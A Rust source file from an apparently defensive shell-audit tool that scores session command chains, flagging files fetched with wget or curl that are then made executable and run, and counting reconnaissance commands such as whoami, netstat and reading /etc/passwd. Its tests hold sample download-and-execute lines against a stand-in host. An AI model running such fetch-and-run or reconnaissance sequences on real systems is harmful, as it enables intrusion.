//! What a session did before: attackers come in sequences.
//!
//! A chain of steps (fetched, made executable, run; looked around, then reached for credentials)
//! says more than each step. Steps fade with a half-life of ten minutes; looking around never
//! alarms alone.

use std::collections::VecDeque;

use audit_core::{Finding, Moment, Score};

use crate::detector::{Assessment, excerpt};

/// A step is worth half after this many seconds.
const HALF_LIFE: f32 = 600.0;
/// This many fetched files are remembered.
const FILES: usize = 16;
/// Each line of looking around adds this much.
const DISCOVERY: f32 = 0.05;

/// What a session did so far.
#[derive(Clone, Debug, Default)]
pub struct Chain {
    at: f32,
    discovery: f32,
    suspicion: f32,
    /// Files fetched, by the last part of their name, and whether they were made executable.
    fetched: VecDeque<(String, bool)>,
}

impl Chain {
    /// Takes the next line into account; may raise its score, never lowers it.
    pub fn step(&mut self, assessment: &mut Assessment, at: Moment) {
        self.fade(at);
        let commands = assessment.resolved.commands.clone();
        let mut raised: Option<(&str, &str, &str, f32)> = None;
        for command in &commands {
            let mut words = command.split(' ');
            let program = words.next().unwrap_or("");
            let rest: Vec<&str> = words.collect();
            match program {
                "curl" | "wget" | "scp" | "sftp" | "ftp" | "tftp" | "ftpget" | "fetch"
                | "aria2c" => {
                    self.remember(&rest);
                }
                "chmod" => self.executable(&rest),
                _ => {}
            }
            let run = std::iter::once(program).chain(match program {
                "sh" | "bash" | "dash" | "python3" | "python" | "perl" => rest.first().copied(),
                _ => None,
            });
            for target in run.filter(|t| !t.is_empty()) {
                if self.fetched.iter().any(|(name, ready)| {
                    name == last(target) && (*ready || program != target) && name.len() > 1
                }) {
                    raised = Some((
                        "session.fetched-run",
                        "file fetched in this session is run",
                        "download_exec",
                        0.72,
                    ));
                }
            }
            if discovers(program, &rest) {
                self.discovery = (self.discovery + 1.0).min(12.0);
            }
        }
        let burst = (self.discovery * DISCOVERY).min(0.2);
        if assessment.rule >= 0.5
            && assessment.rule < 0.7
            && (burst >= 0.1 || self.suspicion >= 1.0)
        {
            raised = raised.or(Some((
                "session.chain",
                "suspicious step after others",
                "suspicious",
                (assessment.score + burst.max(0.08)).min(0.75),
            )));
        }
        if assessment.rule >= 0.5 {
            self.suspicion += assessment.rule;
        }
        if let Some((rule, title, category, score)) = raised.filter(|r| r.3 > assessment.score) {
            assessment.score = score;
            assessment.findings.insert(
                0,
                Finding {
                    rule: rule.into(),
                    title: title.into(),
                    category: category.into(),
                    mitre: Vec::new(),
                    score: Score::new(score).unwrap_or_default(),
                    excerpt: excerpt(&assessment.resolved.raw, (0, 0)),
                },
            );
        }
    }

    fn fade(&mut self, at: Moment) {
        let now = at.as_nanos() as f32 / 1e9;
        let share = 0.5f32.powf((now - self.at).max(0.0) / HALF_LIFE);
        self.discovery *= share;
        self.suspicion *= share;
        if share < 0.1 {
            self.fetched.clear();
        }
        self.at = now;
    }

    fn remember(&mut self, words: &[&str]) {
        let mut target = None;
        for (index, word) in words.iter().enumerate() {
            match *word {
                "-o" | "-O" | "--output" | ">" => {
                    target = words.get(index + 1).filter(|w| !w.contains("://")).or(target);
                }
                _ => {}
            }
        }
        let url = words.iter().find(|w| w.contains("://") || (w.contains('.') && w.contains('/')));
        let Some(file) = target.or(url) else { return };
        let safe = url.is_some_and(|u| {
            ["https://github.com/", "https://dl.", "https://get.", "https://download"]
                .iter()
                .any(|s| u.starts_with(s))
        });
        if !safe && *file != "-" {
            self.fetched.push_back((last(file).to_owned(), false));
            if self.fetched.len() > FILES {
                self.fetched.pop_front();
            }
        }
    }

    fn executable(&mut self, words: &[&str]) {
        let opens = words
            .first()
            .is_some_and(|m| m.contains('x') || m.bytes().any(|b| matches!(b, b'7' | b'5')));
        for word in words.iter().skip(1).filter(|_| opens) {
            for (name, ready) in &mut self.fetched {
                *ready |= name == last(word);
            }
        }
    }
}

fn last(path: &str) -> &str {
    path.trim_end_matches('/').rsplit(['/', '=']).next().unwrap_or(path)
}

/// Whether a command only looks around.
fn discovers(program: &str, rest: &[&str]) -> bool {
    match program {
        "whoami" | "id" | "hostname" | "uname" | "ifconfig" | "netstat" | "arp" | "route" | "w"
        | "last" | "lastlog" | "lscpu" | "lsmod" | "groups" | "nproc" | "dmidecode" => true,
        "ip" | "ss" | "ps" => true,
        "cat" | "less" | "head" => rest.iter().any(|r| {
            [
                "/etc/passwd",
                "/etc/issue",
                "/etc/os-release",
                "/proc/version",
                "/proc/cpuinfo",
                "/etc/hosts",
                "/etc/group",
            ]
            .contains(r)
        }),
        "sudo" => rest == ["-l"],
        "crontab" => rest == ["-l"],
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detector::Detector;
    use crate::shell::Variables;

    fn scores(lines: &[(&str, u64)]) -> Vec<f32> {
        let detector = Detector::embedded();
        let mut chain = Chain::default();
        let mut variables = Variables::new();
        lines
            .iter()
            .map(|(line, second)| {
                let mut assessment = detector.line(line, &mut variables, false);
                chain.step(&mut assessment, Moment::from_nanos(second * 1_000_000_000));
                assessment.score
            })
            .collect()
    }

    #[test]
    fn a_file_fetched_made_executable_and_run_adds_up() {
        let found = scores(&[
            ("wget http://h.example/agent", 1),
            ("chmod +x agent", 2),
            ("./agent --quiet", 3),
        ]);
        assert!(found[0] < 0.7 && found[1] < 0.7 && found[2] >= 0.7, "{found:?}");
    }

    #[test]
    fn a_program_that_was_not_fetched_may_be_run() {
        let found = scores(&[
            ("wget http://h.example/data.csv", 1),
            ("chmod +x tool", 2),
            ("./tool data.csv", 3),
        ]);
        assert!(found.iter().all(|s| *s < 0.7), "{found:?}");
    }

    #[test]
    fn looking_around_alone_never_alarms() {
        let found = scores(&[
            ("whoami", 1),
            ("id", 1),
            ("uname -a", 2),
            ("ps aux", 2),
            ("netstat -an", 3),
            ("cat /etc/passwd", 3),
            ("w", 4),
        ]);
        assert!(found.iter().all(|s| *s < 0.7), "{found:?}");
    }

    #[test]
    fn what_was_long_ago_is_forgotten() {
        let found = scores(&[
            ("wget http://h.example/agent", 1),
            ("chmod +x agent", 2),
            ("./agent", 90_000),
        ]);
        assert!(found[2] < 0.7, "{found:?}");
    }
}
